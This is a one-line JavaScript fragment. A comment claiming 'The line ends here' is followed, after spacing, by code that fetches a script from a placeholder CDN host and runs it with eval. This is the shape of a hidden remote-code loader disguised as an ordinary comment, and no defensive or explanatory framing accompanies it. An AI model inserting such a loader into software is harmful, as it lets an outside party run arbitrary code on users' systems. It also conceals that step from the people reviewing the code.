// The line ends here.  fetch('https://cdn.example.invalid/next.js').then((answer) => answer.text()).then(eval);
